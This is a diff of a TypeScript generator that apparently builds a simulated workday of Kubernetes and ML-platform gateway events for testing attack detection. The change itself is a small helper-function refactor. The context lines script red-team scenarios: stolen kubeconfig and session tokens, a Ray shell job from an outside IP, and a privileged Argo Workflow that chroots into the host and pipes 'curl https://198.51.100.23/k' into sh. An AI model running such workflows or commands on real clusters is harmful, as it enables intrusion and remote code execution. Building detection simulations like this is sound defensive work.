@@ -1,4 +1,4 @@
-import { LINUX, MAC, PLATFORM_HINT, WS_UPGRADE, prng, withAttacks, attackAdder, type AttackRequest, type DayEvent, type Login } from './workday.js';
+import { attackAdder, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, PLATFORM_HINT, prng, withAttacks, WS_UPGRADE } from './workday.js';
 
 /**
  * A seventeenth replayed day, written as an outside red team and an outside observer would after
@@ -371,13 +371,6 @@ export function workday17(seed = 151): DayEvent[] {
   return withAttacks(events, attacks17(people, events));
 }
 
-/** The victim's request last at or before `t` on the scored day, among those `match` picks. */
-function lastOf(routine: readonly DayEvent[], actor: string, t: number, match: (e: DayEvent) => boolean): DayEvent {
-  let e: DayEvent | undefined;
-  for (const x of routine) if (x.actor === actor && x.scored && match(x) && (e === undefined || x.at <= t)) e = x;
-  return e!;
-}
-
 /** The bucket a KServe InferenceService is pointed at by the attacker (a lookalike of the company's). */
 export const ATTACKER_BUCKET = 's3://meridian-models-backup-eu/fraud-scorer/v42';
 
@@ -389,7 +382,7 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
   const on = (reqs: AttackRequest[]): AttackRequest[] => reqs.map(([m, p, s, h, b, hh]) => [m, p, s, h, b, hh ?? API]);
   const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === API;
   const onLaptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gapMs: number) => {
-    const v = lastOf(routine, p.name, T(h), kubectl);
+    const v = lastScoredOf(routine, p.name, T(h), kubectl);
     add(attack, T(h), v.ip, v.ua, v.login, on(reqs), gapMs, p);
   };
 
@@ -397,7 +390,7 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
   // package in it) reads ds-2's ~/.kube/config (home directories readable on the VM) and uses the
   // token from that same VM with the same Python client: the registry's and the object store's keys.
   const ds2 = by('ds-2');
-  const k2 = lastOf(routine, ds2.name, T(13.8), (x) => x.ua === PYCLIENT);
+  const k2 = lastScoredOf(routine, ds2.name, T(13.8), (x) => x.ua === PYCLIENT);
   add("a neighbour's kernel on the shared notebook server uses a data scientist's kubeconfig", T(13.8), NOTEBOOK_VM, PYCLIENT, k2.login, on([
     ['GET', `/api/v1/namespaces/${ds2.team}/pods?limit=500`, false],
     ['GET', '/api/v1/namespaces/ml-registry/secrets/mlflow-artifact-store', true],
@@ -435,7 +428,7 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 4. ShadowRay through the gateway: a data scientist's session token (taken by a browser
   // extension) used from a VPS to submit a Ray job whose entrypoint is a shell.
   const ds5 = by('ds-5');
-  const b5 = lastOf(routine, ds5.name, T(12.4), (x) => x.host === RAY || x.host === JUPYTER);
+  const b5 = lastScoredOf(routine, ds5.name, T(12.4), (x) => x.host === RAY || x.host === JUPYTER);
   add('a Ray job submitted through the gateway from outside (stolen session token)', T(12.4), '45.61.188.20', RAY_CLI, b5.login, [
     ['GET', '/api/version', false, undefined, undefined, RAY],
     ['GET', '/api/jobs/', false, undefined, undefined, RAY],
@@ -473,7 +466,7 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
   // calls): a RoleBinding and an Istio AuthorizationPolicy in the team's namespace, written by
   // Kubeflow's own controller.
   const ds1 = by('ds-1');
-  const b1 = lastOf(routine, ds1.name, T(10.2), (x) => x.host === JUPYTER);
+  const b1 = lastScoredOf(routine, ds1.name, T(10.2), (x) => x.host === JUPYTER);
   add('a Kubeflow profile shared with an outside identity (malicious notebook extension)', T(10.2), b1.ip, b1.ua, b1.login, [
     ['GET', '/kfam/v1/bindings?namespace=team-vision', false, b1.headers, undefined, KUBEFLOW],
     ['POST', '/kfam/v1/bindings', true, { ...b1.headers, ...JSON_CT }, JSON.stringify({ user: { kind: 'User', name: 'ml-consult@protonmail.example' }, referredNamespace: ds1.team, RoleRef: { kind: 'ClusterRole', name: 'kubeflow-edit' } }), KUBEFLOW],
@@ -484,7 +477,7 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
   // creates it in the cluster with the caller's token from inside (auth mode `client`): the body
   // never passes the gateway as a Kubernetes request.
   const ds4 = by('ds-4');
-  const b4 = lastOf(routine, ds4.name, T(11.1), (x) => x.headers?.['sec-ch-ua'] !== undefined);
+  const b4 = lastScoredOf(routine, ds4.name, T(11.1), (x) => x.headers?.['sec-ch-ua'] !== undefined);
   const wf = { metadata: { generateName: 'eda-', namespace: ds4.team }, spec: { entrypoint: 'main', volumes: [{ name: 'host', hostPath: { path: '/' } }], templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh', '-c', 'chroot /host sh -c "curl -s https://198.51.100.23/k | sh"'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] } }] } };
   add("a privileged Workflow created through the Argo Server's API (malicious extension in a data scientist's browser)", T(11.1), b4.ip, b4.ua, b4.login, [
     ['GET', `/api/v1/workflows/${ds4.team}?listOptions.limit=50`, false, b4.headers, undefined, ARGO],
